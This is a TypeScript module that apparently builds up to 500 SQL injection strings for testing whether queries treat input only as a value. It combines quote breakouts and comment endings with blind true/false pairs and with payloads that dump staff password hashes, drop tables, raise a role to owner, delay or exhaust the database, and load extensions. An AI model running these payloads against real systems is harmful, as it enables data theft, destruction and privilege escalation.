/** How a string may leave the place where a careless query put it. */
const BREAKOUTS = [
  "'",
  "')",
  "'))",
  '"',
  '")',
  '',
  '1',
  '1)',
  "%'",
  "\\'",
  '`',
  '];',
  "'||'",
  '\u02bc',
  '%27',
];

/** What it may then try. Each pair is of the same words: only what is true of one is false of the other. */
const PAIRS: readonly (readonly [string, string])[] = [
  [' OR 3>2', ' OR 2>3'],
  [' AND 3>2', ' AND 2>3'],
  [" OR 'zq'>'zp'", " OR 'zp'>'zq'"],
  [' OR EXISTS(SELECT 1 WHERE 3>2)', ' OR EXISTS(SELECT 1 WHERE 2>3)'],
];

const ALONE = [
  ' UNION SELECT username, password_hash FROM staff',
  ' UNION ALL SELECT NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL',
  '; DROP TABLE products; ',
  "; UPDATE staff SET role='owner'; ",
  ' ORDER BY 999',
  ', (SELECT password_hash FROM staff LIMIT 1) DESC',
  ' AND 1=randomblob(900000000)',
  ' OR (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT 90000000) SELECT max(x) FROM c)>0',
  '; SELECT pg_sleep(9); ',
  ' OR pg_sleep(9) IS NULL',
  ' AND CAST((SELECT version()) AS int)=1',
  ' AND load_extension(1)',
  "; ATTACH DATABASE '/tmp/x.db' AS x; ",
];

const ENDINGS = ['', ' -- ', '/*', '#', ';'];

const variants = <Of>(of: (breakout: string, ending: string) => Of): Of[] =>
  ENDINGS.flatMap((ending) => BREAKOUTS.map((breakout) => of(breakout, ending)));

/** Pairs whose results are the same wherever a value is only a value. */
export const SQL_PAIRS = variants((breakout, ending) =>
  PAIRS.map(([one, other]) => [`${breakout}${one}${ending}`, `${breakout}${other}${ending}`] as const),
).flat();

/** Five hundred strings that would change, read, break or delay a query that they are written into. */
export const SQL_STRINGS: readonly string[] = [
  ...SQL_PAIRS.slice(0, 50).flat(),
  ...variants((breakout, ending) => ALONE.map((tried) => `${breakout}${tried}${ending}`)).flat(),
].slice(0, 500);
